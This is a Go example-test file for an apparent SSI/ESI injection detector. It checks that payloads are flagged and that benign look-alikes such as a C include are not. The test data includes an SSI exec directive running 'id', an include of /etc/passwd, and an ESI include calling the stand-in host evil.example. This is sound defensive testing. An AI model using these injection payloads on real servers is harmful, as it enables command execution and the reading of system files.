package ssi_test

import (
	"fmt"

	"github.com/tangoguard/tangoguard/internal/detect/scan"
	"github.com/tangoguard/tangoguard/internal/detect/ssi"
)

func show(text string) {
	d := ssi.Detector()
	v := scan.NewView(text)
	n := 0
	d.Find(&v, func(rule string, start, end int) {
		n++
		fmt.Printf("%s: %s\n", rule, text[start:end])
	})
	if n == 0 {
		fmt.Println("nothing")
	}
}

func Example_reported() {
	show(`<!--#exec cmd="id" -->`)
	show(`#include virtual="/etc/passwd"`)
	show(`<esi:include src="//evil.example/"/>`)
	// Output:
	// directive: <!--#exec cmd="id" -->
	// argument: #include virtual="/etc/passwd"
	// esi: <esi:include src="//evil.example/"/>
}

func Example_notReported() {
	show(`<!-- #1 dad -->`)
	show(`#include <stdio.h>`)
	show(`#set and match`)
	// Output:
	// nothing
	// nothing
	// nothing
}
